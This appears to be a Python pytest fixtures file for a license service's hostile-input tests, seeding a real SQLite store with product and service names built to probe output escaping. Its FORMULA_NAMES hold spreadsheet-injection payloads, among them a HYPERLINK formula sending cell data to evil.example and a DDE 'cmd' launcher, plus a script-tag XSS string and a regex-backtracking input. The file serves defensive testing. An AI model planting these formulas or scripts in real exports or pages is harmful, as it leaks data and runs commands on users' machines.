"""Fixtures of the hostile-input tests: the real API app over a real SQLite store with data.

The store holds two days of products, a Cloud Pak with bundled products and services,
some named like spreadsheet formulas and HTML, so fuzzing and injection tests read
real rows. The authenticator is the real ``ApiTokenAuthenticator`` over a real token
file, behind the real failed-attempt limiter.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from license_service.auth.authenticators import ApiTokenAuthenticator
from license_service.auth.failed_attempts import FailedAttemptLimiter
from license_service.cluster.source import ClusterState
from license_service.configuration.ibmlicensing import LicensingConfig
from license_service.metering.cluster_view import ClusterView
from license_service.metering.explanation_cells import ExplainedRow
from license_service.metering.measuring import measure
from license_service.metering.settings import MeteringSettings
from license_service.metering.usage import Measurement
from license_service.metering.usage_explanations import (
    WHOLE_CLUSTER,
    Contribution,
    UsageExplanation,
)
from license_service.sampling.status import SamplerStatus
from license_service.signing.keys import SigningKey
from license_service.store.database import Database, sqlite_url
from license_service.store.usage_explanations import keep_written_out
from license_service.tokens.file_source import TokenFile
from license_service.tokens.file_store import write_token_file
from license_service.web.app_state import AppState
from license_service.web.application import create_app
from license_service.web.probes.version_info import VersionInfo
from tests.kubernetes_fake.fixtures import fake_api, kube_client
from tests.metering import cluster_builders as builders
from tests.metering.cluster_builders import node, pod, view
from tests.store.sample_builders import CLUSTER, at, bundled, product, service, store

__all__ = ["fake_api", "kube_client"]

NOW = datetime(2026, 11, 28, 10, 0, tzinfo=UTC)
TOKEN = "Hx7Kp2Qm9Zr4Wt6Yv8Bn3Cd5"
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)
HTML_NAME = '<script>alert("name")</script>'


def seed(database: Database) -> None:
    """Two days of data whose names are formulas and HTML, and ordinary ones."""
    store(
        database,
        at("2026-11-20", "10:00"),
        *(
            product(f"formula-{index}", index + 1, name=name)
            for index, name in enumerate(FORMULA_NAMES)
        ),
        product("html", 2, name=HTML_NAME),
        product("plain", 4, name="Plain product"),
        bundled("db2", 3, ratio="2:1", product_name="=1+2", cloudpak_name="@cloudpak"),
        bundled("wkc", 1, cloudpak_version="-4.8"),
        service("svc-1", 2, service_name="+service"),
    )
    store(
        database,
        at("2026-11-21", "10:00"),
        product("plain", 6, name="Plain product"),
        service("svc-1", 5, service_name="+service"),
    )
    # The breakdown of html's peak: names that are HTML or formulas (SPEC 9).
    with database.begin() as connection:
        keep_written_out(
            connection,
            cluster_id=CLUSTER,
            day=at("2026-11-20").date(),
            group_name=WHOLE_CLUSTER,
            sample_at=at("2026-11-20", "10:00"),
            explanations=[
                UsageExplanation(
                    ExplainedRow("", "", "html", builders.VPC, ""),
                    HTML_NAME,
                    2,
                    1,
                    1500,
                    (
                        Contribution(
                            HTML_NAME, "Deployment", FORMULA_NAMES[0], "n1", 1, 1, 900, 900, 70
                        ),
                        Contribution("=1+2", "Pod", "@SUM(A1)", "n2", 1, 1, 600, 600, 70),
                    ),
                )
            ],
        )


@dataclass
class ServiceSettings:
    """What the running service would change under the app."""

    licensing: LicensingConfig = field(default_factory=LicensingConfig)
    max_failures: int = 10


def synced() -> ClusterState:
    return ClusterState(
        view=ClusterView(), synced=True, observed_at=NOW, cluster_id=CLUSTER, source="simulated"
    )


def hostile_measurement() -> Measurement:
    """Usage now, with pods whose annotations are HTML, formulas, too long or invalid."""
    cluster = view(
        pod("html-0", "n1", builders.product("html", HTML_NAME), "1"),
        pod("formula-0", "n1", builders.product("formula", FORMULA_NAMES[0]), "1"),
        pod("huge-0", "n1", builders.product("huge", "x" * 100_000), "1"),
        pod("redos-0", "n1", builders.product("redos", productChargedContainers="(a)\\1"), "1"),
        pod("ratio-0", "n1", builders.bundled("r", "<b>R</b>", ratio="<i>2</i>:1"), "1"),
        pod("lost-0", "unknown-node", builders.product("lost", "Lost"), None),
        nodes=(node("n1", "8"),),
    )
    return measure(cluster, MeteringSettings())


def sampler() -> SamplerStatus:
    return SamplerStatus(
        interval=timedelta(minutes=5),
        source="simulated",
        synced=True,
        last_tick_at=NOW,
        last_outcome="sampled",
        last_sample_at=NOW,
        samples_taken=12,
        last_measurement=hostile_measurement(),
    )


@pytest.fixture(scope="session")
def signing_key() -> SigningKey:
    """One RSA key for the session: generating one takes a while."""
    return SigningKey.generate()


@pytest.fixture
def service_settings() -> ServiceSettings:
    return ServiceSettings()


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    """A migrated SQLite store holding the seeded rows, shared by a module (read only)."""
    opened = Database.open(sqlite_url(tmp_path_factory.mktemp("store") / "license-service.db"))
    seed(opened)
    yield opened
    opened.dispose()


def build_state(
    database: Database, signing_key: SigningKey, tmp_path: Path, settings: ServiceSettings
) -> AppState:
    """The app state of a service over ``database`` whose API token is ``TOKEN``."""
    token_path = tmp_path / "api-token"
    write_token_file(token_path, TOKEN)
    authenticator = ApiTokenAuthenticator(
        TokenFile(
            token_path, generate_if_missing=False, grace_period=timedelta(0), clock=lambda: NOW
        ),
        url_based_enabled=lambda: settings.licensing.url_based_enabled,
        limiter=FailedAttemptLimiter(max_failures=settings.max_failures),
        clock=lambda: NOW,
    )
    return AppState(
        database=database,
        cluster_id=CLUSTER,
        cluster_name="Hostile <cluster>",
        sampler_status=sampler,
        source_state=synced,
        authenticator=authenticator,
        licensing=lambda: settings.licensing,
        health_warnings=list,
        signing_key=signing_key,
        clock=lambda: NOW,
        version=VersionInfo(version="1.2.3", build_date="2026-11-01", commit="abc1234"),
        temp_dir=tmp_path,
    )


@pytest.fixture
def app(
    database: Database, signing_key: SigningKey, tmp_path: Path, service_settings: ServiceSettings
) -> Starlette:
    """The API app over the seeded store."""
    return create_app(build_state(database, signing_key, tmp_path, service_settings))


@pytest.fixture
def client(app: Starlette) -> Iterator[TestClient]:
    """A client of the app; its requests carry no token unless a test adds one."""
    with TestClient(app) as test_client:
        yield test_client
